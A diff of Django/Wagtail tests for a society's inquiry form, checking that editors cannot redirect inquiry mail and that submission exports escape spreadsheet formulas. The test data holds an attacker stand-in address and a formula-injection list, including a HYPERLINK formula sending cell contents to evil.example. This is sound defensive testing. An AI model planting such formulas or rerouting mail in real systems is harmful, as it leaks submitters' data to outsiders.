@@ -1,13 +1,18 @@
 """お問い合わせ (guide 16): the inquiry form page, its mail, who sees the submissions, and the links."""
 
+import csv
+import importlib
+import io
 import re
 
+import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from django.core import mail
 from django.urls import reverse
 from django_tasks_db.models import DBTaskResult
 from wagtail.contrib.forms.models import FormSubmission
+from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text
 
 from cms_pages.models import InquiryFormField, InquiryPage, SocietySettings
 from cms_pages.tasks import send_inquiry_mail
@@ -84,7 +89,7 @@ def test_submission_is_stored_and_mailed_to_the_secretariat(client, inquiry, dja
     assert "homepage" not in submission.form_data
 
     [message] = mail.outbox
-    assert message.to == ["info@example.jp"]  # the page's to_address: the society's contact address
+    assert message.to == ["info@example.jp"]  # no recipients in the settings: the society's contact address
     assert message.subject == "【会員管理システム】お問い合わせ"
     assert message.reply_to == ["ichiro@example.com"]
     assert "氏名: 佐藤 一郎" in message.body
@@ -112,12 +117,11 @@ def test_the_mail_is_a_background_task_queued_with_the_submission(
     assert "氏名: 佐藤 一郎" in message.body
 
 
-def test_without_an_address_on_the_page_the_mail_goes_to_the_society_contact(
+def test_without_recipients_in_the_settings_the_mail_goes_to_the_society_contact(
     client, inquiry, django_capture_on_commit_callbacks
 ):
-    inquiry.to_address = ""
-    inquiry.save_revision().publish()
     settings = SocietySettings.objects.get()
+    assert settings.inquiry_recipients == ""
     settings.contact_email = "jimukyoku@example.jp"
     settings.save()
     with django_capture_on_commit_callbacks(execute=True):
@@ -160,6 +164,129 @@ def test_a_filled_honeypot_gets_the_thank_you_page_but_nothing_is_stored_or_sent
     assert "お問い合わせを受け付けました" in response.content.decode()
     assert not FormSubmission.objects.exists()
     assert mail.outbox == []
+
+
+# Where the inquiries go: the secretariat's setting, not the page (issue 11)
+
+EVIL = "collector@evil.example"
+
+
+def settings_url():
+    return reverse("wagtailsettings:edit", args=["cms_pages", "societysettings", SocietySettings.objects.get().site_id])
+
+
+def inquiry_mail_goes_to(client, page, django_capture_on_commit_callbacks):
+    client.logout()
+    mail.outbox.clear()
+    with django_capture_on_commit_callbacks(execute=True):
+        client.post(page.url, filled_in(page))
+    [message] = mail.outbox
+    return message
+
+
+def edit_form_data(page, **extra):
+    """What the page editor posts to publish the page as it is, plus ``extra``."""
+    fields = [
+        {
+            "id": field.pk,
+            "label": field.label,
+            "field_type": field.field_type,
+            "required": "on",
+            "help_text": field.help_text,
+            "choices": "",
+            "default_value": "",
+            "prefill": field.prefill,
+            "ORDER": str(n + 1),
+        }
+        for n, field in enumerate(page.form_fields.all())
+    ]
+    data = nested_form_data(
+        {
+            "title": page.title,
+            "slug": page.slug,
+            "intro": rich_text(page.intro),
+            "thank_you_text": rich_text(page.thank_you_text),
+            "subject": page.subject,
+            "form_fields": inline_formset(fields, initial=len(fields)),
+        }
+    )
+    return {**data, "action-publish": "action-publish", **extra}
+
+
+def test_an_editor_cannot_publish_where_inquiries_go(client, inquiry, django_capture_on_commit_callbacks):
+    editor = user_in("編集者")
+    client.force_login(editor)
+    edit_url = reverse("wagtailadmin_pages:edit", args=[inquiry.pk])
+    body = client.get(edit_url).content.decode()
+    assert 'name="to_address"' not in body and 'name="from_address"' not in body
+    assert "学会の設定の「お問い合わせの通知メール」" in body
+    # A crafted POST with the fields Wagtail's email form would have: the page is published,
+    # the addresses are not taken.
+    response = client.post(
+        edit_url, edit_form_data(inquiry, to_address=EVIL, from_address=EVIL, subject="変更した件名")
+    )
+    assert response.status_code == 302, response.content.decode()[:2000]
+    inquiry.refresh_from_db()
+    assert inquiry.subject == "変更した件名" and inquiry.live_revision.user == editor
+    message = inquiry_mail_goes_to(client, inquiry, django_capture_on_commit_callbacks)
+    assert message.to == ["info@example.jp"] and EVIL not in message.from_email
+    assert message.subject == "変更した件名"
+
+
+def test_a_revision_with_an_address_publishes_no_address(client, inquiry, django_capture_on_commit_callbacks):
+    """Revisions are JSON of the page's fields: one saved before the upgrade (or forged) with a
+    to_address has no field to put it in, also when an editor publishes or reverts to it."""
+    revision = inquiry.save_revision(user=user_in("編集者"))
+    revision.content.update(to_address=EVIL, from_address=EVIL)
+    revision.save()
+    revision.publish()
+    message = inquiry_mail_goes_to(client, InquiryPage.objects.get(), django_capture_on_commit_callbacks)
+    assert message.to == ["info@example.jp"] and EVIL not in message.from_email
+
+
+def test_only_the_secretariat_sets_where_inquiries_go(client, inquiry, django_capture_on_commit_callbacks):
+    client.force_login(user_in("編集者"))
+    response = client.get(settings_url())
+    assert response.status_code == 302 and response.url == reverse("wagtailadmin_home")
+    assert client.post(settings_url(), {"inquiry_recipients": EVIL}).status_code == 302
+    assert SocietySettings.objects.get().inquiry_recipients == ""
+
+    client.force_login(user_in("事務局"))
+    body = client.get(settings_url()).content.decode()
+    assert "お問い合わせの送信先" in body
+    current = SocietySettings.objects.get()
+    form = {
+        "society_name": current.society_name,
+        "contact_email": current.contact_email,
+        "inquiry_page": inquiry.pk,
+        "inquiry_recipients": "jimu@example.jp, kaicho@example.jp",
+        "inquiry_from_address": "otoiawase@example.jp",
+        "receipt_issuer_name": "",
+        "receipt_issuer_address": "",
+        "invoice_registration_number": "",
+    }
+    response = client.post(settings_url(), {**form, "inquiry_recipients": "jimu@example.jp, kaicho@"})
+    assert "メールアドレスの形式が正しくありません: kaicho@" in response.content.decode()
+    assert client.post(settings_url(), form).status_code == 302
+    message = inquiry_mail_goes_to(client, inquiry, django_capture_on_commit_callbacks)
+    assert message.to == ["jimu@example.jp", "kaicho@example.jp"]
+    assert message.from_email == "otoiawase@example.jp"
+
+
+@pytest.mark.parametrize(
+    ("page_addresses", "contact", "expected"),
+    [
+        ([""], "info@example.jp", ""),  # the contact address: stays the fallback
+        (["info@example.jp"], "info@example.jp", ""),
+        (["jimu@example.jp"], "info@example.jp", "jimu@example.jp"),
+        (["a@example.jp, b@example.jp", ""], "info@example.jp", "a@example.jp, b@example.jp, info@example.jp"),
+        (["a@example.jp", "A@example.jp, b@example.jp"], "", "a@example.jp, b@example.jp"),
+        ([""], "", ""),
+    ],
+)
+def test_the_upgrade_keeps_delivering_where_each_page_delivered(page_addresses, contact, expected):
+    migration = importlib.import_module("cms_pages.migrations.0004_inquiry_recipients_in_settings")
+    assert migration.merged_recipients(page_addresses, contact) == expected
 
 
 # Prefill
@@ -264,6 +391,30 @@ def test_the_secretariat_lists_reads_and_deletes_the_submissions(client, inquiry
     delete = reverse("wagtailforms:delete_submissions", args=[inquiry.pk]) + f"?selected-submissions={submitted.pk}"
     assert client.post(delete).status_code == 302
     assert not FormSubmission.objects.exists()
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_the_submissions_export_escapes_formulas_for_excel(client, inquiry):
+    """Anyone may type a formula into the public form; the secretariat opens the export in Excel."""
+    names = field_names(inquiry)
+    for text in FORMULAS:
+        FormSubmission.objects.create(page=inquiry, form_data={names["氏名"]: text, names["お問い合わせ内容"]: "普通の文"})
+    client.force_login(user_in("事務局"))
+    response = client.get(reverse("wagtailforms:list_submissions", args=[inquiry.pk]) + "?export=csv")
+    content = b"".join(response.streaming_content).decode("utf-8")
+    assert content.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
+    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"), newline="")))
+    name_column = rows[0].index("氏名")
+    assert [row[name_column] for row in rows[1:]] == ["'" + text for text in FORMULAS]
+    assert {row[rows[0].index("お問い合わせ内容")] for row in rows[1:]} == {"普通の文"}
+    assert f"{inquiry.slug}-export-" in response["Content-Disposition"]
+
+    xlsx = client.get(reverse("wagtailforms:list_submissions", args=[inquiry.pk]) + "?export=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in FORMULAS]
+    assert len(cells) == len(FORMULAS) and all(cell.data_type == "s" for cell in cells)
 
 
 # Members area and links
